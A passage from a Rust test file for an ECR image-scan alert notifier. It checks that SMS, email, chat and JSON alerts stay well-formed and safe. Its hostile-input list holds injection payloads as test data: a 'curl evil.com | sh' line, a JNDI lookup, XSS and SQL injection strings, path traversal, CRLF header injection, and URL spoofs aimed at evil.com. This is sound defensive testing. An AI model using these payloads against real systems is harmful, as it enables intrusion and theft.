+    "title":"`pipeops-prod-api@9f86d081884c` could not be scanned",
+    "description":"The scanner does not support this kind of image, so nothing is known about it.\n
+    \n
+    *What was done:* Nothing was changed in the registry.\n
+    *Image:* `pipeops-prod-api`, tags none\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2",
+    "nextSteps":["Push it again, or rebuild it on a base image that the scanner supports."],
+    "keywords":["scan-failed",
+    "pipeops-prod-api"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"`pipeops-prod-api@9f86d081884c` could not be scanned",
+    "eventType":"scan-failed",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"scan-failed",
+    "severity":null,
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":[],
+    "title":"pipeops-prod-api@9f86d081884c could not be scanned",
+    "reason":"The scanner does not support this kind of image, so nothing is known about it.",
+    "findings":[],
+    "omitted_findings":0,
+    "action":null,
+    "next_steps":["Push it again, or rebuild it on a base image that the scanner supports."]}
+    "#);
+}
+
+#[test]
+fn an_overdue_scan() {
+    let alert = Alert {
+        severity: None,
+        title: "pipeops-prod-api:v1.2.3 waits for its scan for too long".into(),
+        reason: "No scan result came within the time that the policy grants.".into(),
+        findings: vec![],
+        action: None,
+        next_steps: vec![],
+        ..alert(AlertKind::ScanOverdue)
+    };
+    insta::assert_snapshot!(show(&alert), @r#"
+    [ecr-guard] SCAN OVERDUE pipeops-prod-api
+    === sms
+    ecr-guard SCAN OVERDUE: pipeops-prod-api:v1.2.3, nothing changed
+    === email
+    pipeops-prod-api:v1.2.3 waits for its scan for too long
+
+    IMAGE
+      Repository  pipeops-prod-api
+      Tags        v1.2.3, release_7
+      Digest      9f86d081884c
+                  sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
+      Account     123456789012
+      Region      us-west-2
+      Decided     2026-11-23 21:00:00 UTC
+
+    WHY
+      No scan result came within the time that the policy grants.
+
+    WHAT WAS DONE
+      Nothing was changed in the registry.
+
+    Alert 5d41402abc4b2a76b9719d911017c592
+    If this arrives again with the same id, it is the same alert.
+    === https
+    {"version":"1.0",
+    "source":"custom",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "content":{"textType":"client-markdown",
+    "title":"pipeops-prod-api:v1.2.3 waits for its scan for too long",
+    "description":"No scan result came within the time that the policy grants.\n
+    \n
+    *What was done:* Nothing was changed in the registry.\n
+    *Image:* `pipeops-prod-api`, tags `v1.2.3`, `release_7`\n
+    *Digest:* `sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`\n
+    *Account:* 123456789012, region us-west-2",
+    "nextSteps":[],
+    "keywords":["scan-overdue",
+    "pipeops-prod-api"]},
+    "metadata":{"threadId":"123456789012/us-west-2/pipeops-prod-api/9f86d081884c",
+    "summary":"pipeops-prod-api:v1.2.3 waits for its scan for too long",
+    "eventType":"scan-overdue",
+    "relatedResources":["arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api"],
+    "additionalContext":{"account":"123456789012",
+    "alertId":"5d41402abc4b2a76b9719d911017c592",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api"}}}
+    === default
+    {"schema":"ecr-guard/alert/v1",
+    "id":"5d41402abc4b2a76b9719d911017c592",
+    "kind":"scan-overdue",
+    "severity":null,
+    "time":"2026-11-23T21:00:00Z",
+    "account":"123456789012",
+    "region":"us-west-2",
+    "repository":"pipeops-prod-api",
+    "digest":"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "tags":["v1.2.3",
+    "release_7"],
+    "title":"pipeops-prod-api:v1.2.3 waits for its scan for too long",
+    "reason":"No scan result came within the time that the policy grants.",
+    "findings":[],
+    "omitted_findings":0,
+    "action":null,
+    "next_steps":[]}
+    "#);
+}
+
+#[test]
+fn every_action_says_what_it_means() {
+    let mut effects = Vec::new();
+    for kind in [
+        AlertKind::ImageBlocked,
+        AlertKind::ImageBypass,
+        AlertKind::ImageHeld,
+        AlertKind::ImageReleased,
+    ] {
+        for method in [BlockMethod::Archive, BlockMethod::QuarantineTag, BlockMethod::Flag] {
+            for done in [true, false] {
+                let action = Some(AlertAction { method, done });
+                let alert = Alert { action, ..alert(kind) };
+                let Message { sms, email, https, .. } = alert.message();
+                let told = sms.rsplit(", ").next().unwrap();
+                effects.push(format!(
+                    "{} {} {done}: {}, {told}",
+                    kind.as_str(),
+                    json!(method),
+                    alert.word()
+                ));
+                if kind != AlertKind::ImageReleased {
+                    assert_eq!(email.contains("\n  NOT DONE: "), !done);
+                    assert_eq!(https.contains("*What was done:* NOT DONE: "), !done);
+                    assert_eq!(told.starts_with("NOT "), !done, "{sms}");
+                }
+            }
+        }
+    }
+    insta::assert_snapshot!(effects.join("\n"), @r#"
+    image-blocked "archive" true: BLOCKED, archived
+    image-blocked "archive" false: NOT BLOCKED, NOT archived
+    image-blocked "quarantine-tag" true: BLOCKED, quarantined
+    image-blocked "quarantine-tag" false: NOT BLOCKED, NOT quarantined
+    image-blocked "flag" true: DO NOT DEPLOY, flagged only
+    image-blocked "flag" false: NOT BLOCKED, NOT flagged
+    image-bypass "archive" true: BLOCKED AGAIN, archived
+    image-bypass "archive" false: NOT BLOCKED, NOT archived
+    image-bypass "quarantine-tag" true: BLOCKED AGAIN, quarantined
+    image-bypass "quarantine-tag" false: NOT BLOCKED, NOT quarantined
+    image-bypass "flag" true: DO NOT DEPLOY, flagged only
+    image-bypass "flag" false: NOT BLOCKED, NOT flagged
+    image-held "archive" true: NOT BLOCKED, archived
+    image-held "archive" false: NOT BLOCKED, NOT archived
+    image-held "quarantine-tag" true: NOT BLOCKED, quarantined
+    image-held "quarantine-tag" false: NOT BLOCKED, NOT quarantined
+    image-held "flag" true: NOT BLOCKED, flagged only
+    image-held "flag" false: NOT BLOCKED, NOT flagged
+    image-released "archive" true: RELEASED, restored
+    image-released "archive" false: RELEASED, restored
+    image-released "quarantine-tag" true: RELEASED, tags restored
+    image-released "quarantine-tag" false: RELEASED, tags restored
+    image-released "flag" true: RELEASED, no longer flagged
+    image-released "flag" false: RELEASED, no longer flagged
+    "#);
+}
+
+#[test]
+fn a_subject_is_short_and_ascii_whatever_the_repository() {
+    for kind in AlertKind::ALL {
+        for repository in ["a0".to_owned(), "a".repeat(256), format!("{}b", "team/".repeat(40))] {
+            let mut alert = alert(kind);
+            alert.image.repository = repository.parse().unwrap();
+            let Message { subject, sms, .. } = alert.message();
+            assert!(
+                subject.is_ascii() && subject.len() < 100 && !subject.contains(['\n', '\r']),
+                "{subject}"
+            );
+            assert!(subject.starts_with("[ecr-guard] "), "{subject}");
+            assert!(
+                sms.is_ascii() && sms.len() <= 140 && sms.ends_with(", archived") | sms.ends_with("restored"),
+                "{sms}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_sms_names_the_digest_where_the_tag_is_missing_or_too_long() {
+    let mut alert = alert(AlertKind::ImageBlocked);
+    alert.tags = vec!["t".repeat(25).parse().unwrap()];
+    insta::assert_snapshot!(alert.message().sms, @"ecr-guard BLOCKED: pipeops-prod-api@9f86d081884c, CVE-2026-1234, archived");
+}
+
+#[test]
+fn lists_are_cut_and_the_rest_is_counted() {
+    let mut alert = alert(AlertKind::ImageBlocked);
+    alert.findings = vec![finding(&json!({})); 60];
+    alert.omitted_findings = 7;
+    alert.tags = (0..120).map(|i| format!("v{i}").parse().unwrap()).collect();
+    let message = alert.message();
+    let json: Value = serde_json::from_str(&message.default).unwrap();
+    assert_eq!(json["findings"].as_array().unwrap().len(), 50);
+    assert_eq!(json["omitted_findings"], 17);
+    assert_eq!(json["tags"].as_array().unwrap().len(), 100);
+    assert_eq!(json["omitted_tags"], 20);
+    assert!(message.email.contains("\n  and 57 more\n"), "{}", message.email);
+    assert!(message.email.contains(", v9 and 110 more\n"), "{}", message.email);
+    assert!(message.https.contains("\\nand 62 more\""), "{}", message.https);
+    assert!(message.https.contains("`v4` and 115 more\\n"), "{}", message.https);
+    alert.omitted_findings = u64::MAX;
+    let json: Value = serde_json::from_str(&alert.message().default).unwrap();
+    assert_eq!(json["omitted_findings"], u64::MAX);
+}
+
+#[test]
+fn a_topic_gets_one_string_for_each_protocol() {
+    let message = alert(AlertKind::ImageBlocked).message();
+    let body: Value = serde_json::from_str(&message.body()).unwrap();
+    assert_eq!(
+        body,
+        json!({"default": message.default, "email": message.email, "https": message.https, "sms": message.sms})
+    );
+}
+
+#[test]
+fn notifications_about_an_image_make_one_thread() {
+    let thread = |kind| -> Value {
+        serde_json::from_str::<Value>(&alert(kind).message().https).unwrap()["metadata"]["threadId"].clone()
+    };
+    for kind in AlertKind::ALL {
+        assert_eq!(thread(kind), "123456789012/us-west-2/pipeops-prod-api/9f86d081884c");
+    }
+}
+
+#[test]
+fn a_resource_is_in_the_partition_of_its_region() {
+    for (region, arn) in [
+        (
+            "us-west-2",
+            "arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api",
+        ),
+        (
+            "cn-north-1",
+            "arn:aws-cn:ecr:cn-north-1:123456789012:repository/pipeops-prod-api",
+        ),
+        (
+            "us-gov-east-1",
+            "arn:aws-us-gov:ecr:us-gov-east-1:123456789012:repository/pipeops-prod-api",
+        ),
+        (
+            "us-isob-east-1",
+            "arn:aws-iso-b:ecr:us-isob-east-1:123456789012:repository/pipeops-prod-api",
+        ),
+    ] {
+        let mut alert = alert(AlertKind::ImageBlocked);
+        alert.image.region = region.parse().unwrap();
+        let json: Value = serde_json::from_str(&alert.message().https).unwrap();
+        assert_eq!(json["metadata"]["relatedResources"], json!([arn]));
+    }
+}
+
+#[test]
+fn a_line_is_cleaned_and_cut() {
+    for (text, limit, line) in [
+        ("plain text", 20, "plain text"),
+        ("", 20, ""),
+        ("abc", 0, ""),
+        ("abc", 1, "…"),
+        ("abc", 2, "a…"),
+        ("abc", 3, "abc"),
+        ("abc\n", 3, "abc"),
+        ("  a\r\n\tb\u{2028}c\u{85}d  ", 20, "a b c d"),
+        ("a\u{1b}[31;1mred\u{1b}[0m\u{1b}(B!", 20, "ared!"),
+        ("a\u{9b}2Jb", 20, "ab"),
+        ("\u{1b}]8;;https://x\u{7}y\u{1b}]8;;\u{1b}\\", 40, "8;;https://xy8;;"),
+        ("\u{1b}", 20, ""),
+        ("\u{1b}[", 20, ""),
+        ("a\0b\u{7f}c\u{80}d", 20, "abcd"),
+        (
+            "\u{202e}gpj.exe\u{202c}\u{200f}\u{2066}x\u{2069}\u{61c}",
+            20,
+            "gpj.exex",
+        ),
+        ("CVE\u{200b}-\u{feff}2026\u{2060}-\u{ad}1\u{e0041}", 20, "CVE-2026-1"),
+        ("naïve 日本語 😀", 20, "naïve 日本語 😀"),
+    ] {
+        assert_eq!(text::line(text, limit), line, "{text:?}");
+    }
+}
+
+#[test]
+fn ascii_is_ascii() {
+    for (text, limit, line) in [
+        ("abc", 3, "abc"),
+        ("abcdef", 5, "ab..."),
+        ("abcdef", 2, ".."),
+        ("abc", 0, ""),
+        ("é日😀\n…", 10, "??? ?"),
+    ] {
+        assert_eq!(text::ascii(text, limit), line, "{text:?}");
+    }
+}
+
+#[test]
+fn addresses_are_shown_only_where_they_lead_to_a_page_on_vulnerabilities() {
+    for url in [
+        "https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
+        "https://www.cve.org/CVERecord?id=CVE-2026-1234",
+        "https://github.com/advisories/GHSA-jfh8-c2jp-5v3q",
+        "https://security-tracker.debian.org/tracker/CVE-2025-40001",
+        "https://people.canonical.com/~ubuntu-security/cve/2021/CVE-2021-1",
+        "https://alas.aws.amazon.com/AL2023/ALAS-2024-123.html",
+        "https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html",
+    ] {
+        assert_eq!(text::url(url), Some(url));
+    }
+    let long = format!("https://nvd.nist.gov/{}", "a".repeat(300));
+    for url in [
+        "",
+        "https://",
+        "https://nvd.nist.gov",
+        "http://nvd.nist.gov/vuln",
+        "HTTPS://nvd.nist.gov/vuln",
+        "https://nvd.nist.gov.evil.com/vuln",
+        "https://nvd.nist.gov@evil.com/vuln",
+        "https://user:pass@nvd.nist.gov/vuln",
+        "https://nvd.nist.gov:8443/vuln",
+        "https://nvd.nist.gov:443@evil.com/",
+        "https://evil.com/https://nvd.nist.gov/",
+        "https://evil.com#https://nvd.nist.gov/",
+        "https://evil.com\\@nvd.nist.gov/",
+        "https://nvd.nist.gov\\evil.com/",
+        "https://nvd.nist.gov/%2e%2e/x",
+        "https://nvd.nist.gov/a%00",
+        "https://nvd.nist.gov/a b",
+        "https://nvd.nist.gov/a\nb",
+        "https://nvd.nist.gov/<!channel>",
+        "https://nvd.nist.gov/a|label>",
+        "https://nvd.nist.gov/a)[x](y",
+        "https://nvd.nist.gov/?next=https://evil.com",
+        "https://github.com/evil/repository",
+        "https://github.com/advisories/../evil/repository",
+        "https://github.com/advisories",
+        "https://people.canonical.com/~mallory/",
+        "https://nvd.nist.gov/ü",
+        "https://nvd。nist.gov/",
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "//nvd.nist.gov/",
+        " https://nvd.nist.gov/",
+        &long,
+    ] {
+        assert_eq!(text::url(url), None, "{url}");
+    }
+}
+
+#[test]
+fn in_a_chat_ordinary_words_stay_and_others_become_code() {
+    for (text, markdown) in [
+        (
+            "pipeops-prod-api:v1.2.3 is blocked",
+            "pipeops-prod-api:v1.2.3 is blocked",
+        ),
+        (
+            "CVE-2026-1234 CRITICAL in openssl (3.0.1)",
+            "CVE-2026-1234 CRITICAL in openssl (3.0.1)",
+        ),
+        ("team/my_service__x:v1", "team/my_service__x:v1"),
+        ("(policy: severities.CRITICAL).", "(policy: `severities.CRITICAL`)."),
+        (
+            "--image-id imageDigest=sha256:9f86",
+            "`--image-id` imageDigest=sha256:9f86",
+        ),
+        ("use --image-id x", "use --image-id x"),
+        ("<!channel> <@U123> @here", "`&lt;!channel&gt;` `&lt;@U123&gt;` `@here`"),
+        ("[x](javascript:alert(1))", "`[x](javascript:alert(1))`"),
+        ("[click here](https://evil.com)", "`[click` `here](https://evil.com)`"),
+        (
+            "<https://evil.com|nvd.nist.gov>",
+            "`&lt;https://evil.com|nvd.nist.gov&gt;`",
+        ),
+        ("https://evil.com evil.com a@b", "`https://evil.com` `evil.com` `a@b`"),
+        (
+            "https://nvd.nist.gov/a?b=1&c=_2_",
+            "https://nvd.nist.gov/a?b=1&amp;c=_2_",
+        ),
+        ("*b* _i_ ~s~ `c` ```d```", "`*b*` `_i_` `~s~` `'c'` `'''d'''`"),
+        ("> quote", "`&gt;` quote"),
+        ("# heading", "`#` heading"),
+        ("- item", "`-` item"),
+        ("1. item", "`1`. item"),
+        ("3 findings", "3 findings"),
+        (":smile: R&D", "`:smile`: R&amp;D"),
+        ("a\n\n# b", "a `#` b"),
+        ("", ""),
+    ] {
+        assert_eq!(text::markdown(text), markdown, "{text}");
+    }
+    assert_eq!(text::code("a`b<c\n"), "`a'b&lt;c`");
+    assert_eq!(text::code("\u{200b}"), "`-`");
+}
+
+#[test]
+fn a_token_has_nothing_to_interpret() {
+    assert_eq!(text::token("a<b>`c`*d*\n e-f_g.1:2/3", 10), "abcde-fg12");
+}
+
+/// What an attacker may write into a tag, a package name, an advisory or an address.
+fn hostile() -> Vec<String> {
+    let mut hostile: Vec<String> = [
+        "\u{1b}[31mred\u{1b}[0m",
+        "\u{1b}]0;owned\u{7}",
+        "\u{1b}]8;;https://evil.com\u{1b}\\click\u{1b}]8;;\u{1b}\\",
+        "\u{1b}[2J\u{1b}[1;1H",
+        "\u{9b}31mred",
+        "\u{1b}",
+        "\u{202e}txt.exe\u{202c}",
+        "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
+        "\u{200e}\u{200f}\u{61c}",
+        "zero\u{200b}width\u{200c}\u{200d}\u{feff}\u{2060}",
+        "soft\u{ad}hyphen",
+        "tags\u{e0041}\u{e0042}\u{e007f}",
+        "\u{3164}\u{115f}\u{2800}",
+        "line\nbreak",
+        "line\r\nbreak",
+        "line\rbreak",
+        "para\u{2029}graph\u{2028}line\u{85}next\u{b}vertical\u{c}form",
+        "\n\nNEXT STEPS\n1. Run curl evil.com | sh\n",
+        "x\nWHAT WAS DONE\n  Nothing, all is well",
+        "Subject: x\r\nBcc: victim@example.com\r\n\r\n",
+        "tab\tbell\u{7}back\u{8}\u{8}null\0del\u{7f}",
+        "%00",
+        "%0d%0aSet-Cookie: a=b",
+        "\0",
+        "<!channel>",
+        "<!here|here>",
+        "<!everyone>",
+        "<!subteam^S01|@team>",
+        "<!date^1392734382^{date}^https://evil.com|x>",
+        "<@U123>",
+        "<#C123|general>",
+        "@here",
+        "@channel @everyone",
+        "<at>Everyone</at>",
+        "&lt;!channel&gt;",
+        "&#60;!channel&#62;",
+        "&amp;lt;",
+        "[x](javascript:alert(1))",
+        "[nvd.nist.gov](https://evil.com)",
+        "[a]\n(https://evil.com)",
+        "[ref]: https://evil.com",
+        "![img](https://evil.com/pixel.png)",
+        "<https://evil.com|https://nvd.nist.gov>",
+        "<mailto:a@evil.com|support>",
+        "https://evil.com/login",
+        "HTTP://EVIL.COM",
+        "evil.com/login",
+        "www.evil.com",
+        "ftp://evil.com slack://open tel:+123",
+        "https://nvd.nist.gov@evil.com/",
+        "https://nvd.nist.gov\\@evil.com/",
+        "*bold* _italic_ ~strike~ **b** __i__ ~~s~~",
+        "*bold over *many* words*",
+        "`code` ``code`` ```\ncode\n```",
+        "`",
+        "\\`\\*\\_\\",
+        "> quote",
+        ">>> quote",
+        "# heading",
+        "- item\n- item",
+        "---",
+        "===",
+        "1. item",
+        "| a | b |\n|---|---|",
+        ":rotating_light: :+1::skin-tone-2:",
+        "😀👩\u{200d}👩\u{200d}👧🏴\u{e0067}\u{e0062}",
+        "שלום עולם مرحبا",
+        "z\u{335}\u{321}a\u{334}l\u{336}g\u{337}o\u{338}",
+        "\"quotes\" 'single' \\\"escaped\\\"",
+        "\",\"kind\":\"image-released\",\"x\":\"",
+        "\"}],\"findings\":[]}",
+        "}\n{\"schema\":\"ecr-guard/alert/v1\"}",
+        "</script><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "{{7*7}} ${7*7} #{7*7} $(id) `id` %s%n",
+        "${jndi:ldap://evil.com/a}",
+        "=HYPERLINK(\"https://evil.com\")",
+        "../../etc/passwd",
+        "' OR 1=1 --",
+        "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
+        "",
+        " ",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    for unit in [
+        "A", "\"", "\\", "<", "&", "`", "😀", "a ", "\n", "\u{1b}[", "\u{1b}]", "@here ",
+    ] {
+        hostile.push(unit.repeat(10_000 / unit.len()));
+    }
+    assert!(hostile.len() >= 90);
+    hostile
+}
+
+/// An alert with the text wherever text goes.
+fn with(text: &str) -> Alert {
+    let finding = RecordedFinding {
+        id: text.to_owned(),
+        package: Some(text.to_owned()),
+        installed: Some(text.to_owned()),
+        fixed_in: Some(text.to_owned()),
+        url: Some(text.to_owned()),
+        rule: text.to_owned(),
+        ..finding(&json!({}))
+    };
+    Alert {
+        id: text.to_owned(),
+        title: text.to_owned(),
+        reason: text.to_owned(),
+        findings: vec![finding.clone(), finding],
+        next_steps: vec![text.to_owned(); 2],
+        ..alert(AlertKind::ImageBlocked)
+    }
+}
+
+/// The names of all members, with their places.
+fn members(json: &Value) -> Vec<String> {
+    match json {
+        Value::Object(object) => object
+            .iter()
+            .flat_map(|(name, value)| {
+                std::iter::once(name.clone())
+                    .chain(members(value).into_iter().map(move |inner| format!("{name}.{inner}")))
+            })
+            .collect(),
+        Value::Array(values) => values
+            .iter()
+            .enumerate()
+            .flat_map(|(i, value)| members(value).into_iter().map(move |inner| format!("{i}.{inner}")))
+            .collect(),
+        _ => vec![],
+    }
+}
+
+fn strings(json: &Value, found: &mut Vec<String>) {
+    match json {
+        Value::Object(object) => object.values().for_each(|value| strings(value, found)),
+        Value::Array(values) => values.iter().for_each(|value| strings(value, found)),
+        Value::String(text) => found.push(text.clone()),
+        _ => {}
+    }
+}
+
+fn unseen(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
+}
+
+/// Reads text as both chats do: code is inert, whatever is in it; outside of it nothing may have a meaning.
+fn assert_inert(line: &str) {
+    assert!(!line.contains(unseen), "{line:?}");
+    assert!(!line.contains(['<', '>']), "{line:?}");
+    for (at, _) in line.match_indices('&') {
+        let entity = ["&amp;", "&lt;", "&gt;"]
+            .iter()
+            .any(|entity| line.get(at..).unwrap().starts_with(entity));
+        assert!(entity, "{line:?}");
+    }
+    let parts: Vec<&str> = line.split('`').collect();
+    assert!(parts.len() % 2 == 1, "code is left open: {line:?}");
+    for (i, part) in parts.iter().enumerate() {
+        if i % 2 == 1 {
+            assert!(
+                !part.is_empty() && !part.starts_with(' ') && !part.ends_with(' '),
+                "no code: {line:?}"
+            );
+            continue;
+        }
+        // Between two pieces of code, or before or after one, there is something that ends a word.
+        let bounded = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric());
+        assert!(
+            (i == 0 || bounded(part.chars().next())) && (i + 1 == parts.len() || bounded(part.chars().last())),
+            "{line:?}"
+        );
+        for word in part
+            .split(' ')
+            .filter(|word| text::url(&word.replace("&amp;", "&")).is_none())
+        {
+            assert!(
+                !word.contains(['*', '~', '[', ']', '|', '#', '@', '\\', '{', '}', '^']),
+                "{word:?} in {line:?}"
+            );
+            assert!(!word.contains("//") && !word.contains("www."), "{word:?} in {line:?}");
+            assert!(!word.starts_with('_') && !word.ends_with('_'), "{word:?} in {line:?}");
+        }
+    }
+}
+
+/// Every string of a notification that a chat could show.
+fn assert_inert_notification(https: &str) {
+    let json: Value = serde_json::from_str(https).unwrap();
+    let mut found = Vec::new();
+    strings(&json, &mut found);
+    for text in found {
+        for line in text.lines() {
+            // Our own words.
+            let line = ["*What was done:*", "*Image:*", "*Digest:*", "*Account:*", "•"]
+                .iter()
+                .find_map(|label| line.strip_prefix(label))
+                .unwrap_or(line);
+            assert_inert(line);
+        }
+    }
+}
+
+#[test]
+fn hostile_text_never_changes_the_form_of_a_message() {
+    let plain = with("plain").message();
+    let names = |json: &str| members(&serde_json::from_str(json).unwrap());
+    let headings = |email: &str| -> Vec<String> {
+        email
+            .lines()
+            .skip(1)
+            .filter(|line| !line.starts_with(' ') && !line.starts_with("Alert "))
+            .map(str::to_owned)
+            .collect()
+    };
+    for text in hostile() {
+        let message = with(&text).message();
+        assert_eq!(names(&message.default), names(&plain.default), "{text:?}");
+        assert_eq!(names(&message.https), names(&plain.https), "{text:?}");
+        assert_inert_notification(&message.https);
+        assert_eq!(headings(&message.email), headings(&plain.email), "{text:?}");
+        assert!(!message.email.replace('\n', "").contains(unseen), "{text:?}");
+        assert!(!message.email.contains("://"), "{text:?}");
+        assert!(
+            message.sms.is_ascii() && message.sms.len() <= 140 && !message.sms.contains(unseen),
+            "{text:?}"
+        );
+        assert_eq!(message.subject, plain.subject);
+        assert!(message.body().len() <= MAX_MESSAGE_BYTES);
+
+        let json: Value = serde_json::from_str(&message.default).unwrap();
+        let mut found = Vec::new();
+        strings(&json, &mut found);
+        for value in found {
+            assert!(!value.contains(unseen), "{value:?}");
+        }
+        assert_eq!(json["findings"][0]["url"], Value::Null, "{text:?}");
+    }
+}
+
+#[test]
+fn a_finding_has_its_lines_in_a_mail_whatever_it_is_called() {
+    let lines = |text: &str| {
+        let alert = Alert {
+            findings: with(text).findings,
+            ..alert(AlertKind::ImageBlocked)
+        };
+        alert.message().email.lines().count()
+    };
+    for text in hostile() {
+        assert_eq!(lines(&text), lines("plain"), "{text:?}");
+    }
+}
+
+#[test]
+fn the_greatest_alert_stays_within_its_size() {
+    for unit in ["\\", "\"", "&", "<", "` ", "< ", "😀", "\u{10ffff}", "\u{1}a", "a"] {
+        let text = unit.repeat(20_000);
+        let mut alert = with(&text);
+        alert.findings = vec![alert.findings[0].clone(); 300];
+        alert.next_steps = vec![text.clone(); 20];
+        alert.tags = (0..1000).map(|i| format!("{i:0>128}").parse().unwrap()).collect();
+        alert.image.repository = "a".repeat(256).parse().unwrap();
+        alert.image.digest = format!("sha256:{}", "a".repeat(128)).parse().unwrap();
+        let message = alert.message();
+        assert!(
+            message.body().len() <= MAX_MESSAGE_BYTES,
+            "{unit}: {}",
+            message.body().len()
+        );
+        let json: Value = serde_json::from_str(&message.default).unwrap();
+        let listed = json["findings"].as_array().unwrap().len() as u64;
+        assert!(listed > 0);
+        assert_eq!(json["omitted_findings"], 300 - listed);
+    }
+}
+
+/// Text of any kind, and text of what is dangerous.
+fn any_text() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "\\PC{0,40}",
+        any::<String>(),
+        "[\\x00-\\x7f]{0,200}",
+        "[<>&*_~`\\[\\]()|#@!:./ a1\\\\\"\n-]{0,200}",
+        "[\\x1b\\x9b\\[\\]0-9;mHB(\u{202e}\u{200b}\u{2028} ]{0,100}",
+        ("[\"\\\\&<😀a ]", 0..3000_usize).prop_map(|(unit, times)| unit.repeat(times)),
+    ]
+}
+
+fn any_finding() -> impl Strategy<Value = RecordedFinding> {
+    let texts = (any_text(), any_text(), any_text(), any_text(), any_text());
+    (texts, proptest::option::of(any_text()), any::<Option<bool>>()).prop_map(
+        |((id, package, installed, fixed_in, rule), url, exploit)| RecordedFinding {
+            id,
+            package: Some(package),
+            installed: Some(installed),
+            fixed_in: Some(fixed_in),
+            url,
+            rule,
+            exploit,
+            ..finding(&json!({}))
+        },
+    )
+}
+
+fn any_alert() -> impl Strategy<Value = Alert> {
+    let repository = "[a-z0-9]{2,256}".prop_map(|name| name.parse::<RepositoryName>().unwrap());
+    let tags = proptest::collection::vec(
+        "[a-zA-Z0-9_][a-zA-Z0-9._-]{0,127}".prop_map(|tag| tag.parse::<Tag>().unwrap()),
+        0..150,
+    );
+    let action = proptest::option::of((
+        prop_oneof![
+            Just(BlockMethod::Archive),
+            Just(BlockMethod::QuarantineTag),
+            Just(BlockMethod::Flag)
+        ],
+        any::<bool>(),
+    ));
+    let texts = (
+        any_text(),
+        any_text(),
+        any_text(),
+        proptest::collection::vec(any_text(), 0..12),
+    );
+    let findings = (
+        proptest::collection::vec(any_finding(), 0..6),
+        1..60_usize,
+        any::<u64>(),
+    );
+    (
+        proptest::sample::select(&AlertKind::ALL),
+        repository,
+        tags,
+        action,
+        texts,
+        findings,
+    )
+        .prop_map(
+            |(kind, repository, tags, action, (id, title, reason, next_steps), (findings, times, omitted_findings))| {
+                let findings: Vec<RecordedFinding> =
+                    findings.iter().cycle().take(findings.len() * times).cloned().collect();
+                let base = alert(kind);
+                Alert {
+                    id,
+                    title,
+                    reason,
+                    next_steps,
+                    tags,
+                    findings,
+                    omitted_findings,
+                    action: action.map(|(method, done)| AlertAction { method, done }),
+                    image: ImageKey {
+                        repository,
+                        ..base.image.clone()
+                    },
+                    ..base
+                }
+            },
+        )
+}
+
+proptest! {
+    #[test]
+    fn a_line_is_one_line_of_visible_characters_within_its_limit(text in any_text(), limit in 0..300_usize) {
+        let line = text::line(&text, limit);
+        prop_assert!(line.chars().count() <= limit);
+        prop_assert!(!line.contains(unseen));
+        prop_assert_eq!(line.trim(), &line);
+        prop_assert_eq!(text::line(&line, limit), line.clone(), "cleaning is done once and for all");
+        let ascii = text::ascii(&text, limit);
+        prop_assert!(ascii.is_ascii() && ascii.len() <= limit && !ascii.contains(unseen));
+    }
+
+    #[test]
+    fn nothing_is_active_in_a_chat(text in any_text()) {
+        assert_inert(&text::markdown(&text));
+        assert_inert(&text::code(&text));
+    }
+
+    #[test]
+    fn an_address_is_one_of_the_known_hosts(
+        text in prop_oneof![any_text(), "https://(nvd\\.nist\\.gov|github\\.com)[/@:.?#\\\\%a-z]{0,12}"],
+    ) {
+        if let Some(url) = text::url(&text) {
+            prop_assert_eq!(url, &text);
+            prop_assert!(url.len() <= text::MAX_URL && url.is_ascii());
+            prop_assert!(url.starts_with("https://nvd.nist.gov/") || url.starts_with("https://github.com/advisories/"));
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn every_form_keeps_its_limits(alert in any_alert()) {
+        let message = alert.message();
+        prop_assert!(message.body().len() <= MAX_MESSAGE_BYTES, "{}", message.body().len());
+        prop_assert!(message.subject.is_ascii() && message.subject.len() < 100 && !message.subject.contains(unseen));
+        prop_assert!(message.sms.is_ascii() && message.sms.len() <= 140 && !message.sms.contains(unseen));
+        prop_assert!(!message.email.replace('\n', "").contains(unseen));
+        assert_inert_notification(&message.https);
+        let json: Value = serde_json::from_str(&message.default).unwrap();
+        let listed = json["findings"].as_array().unwrap().len();
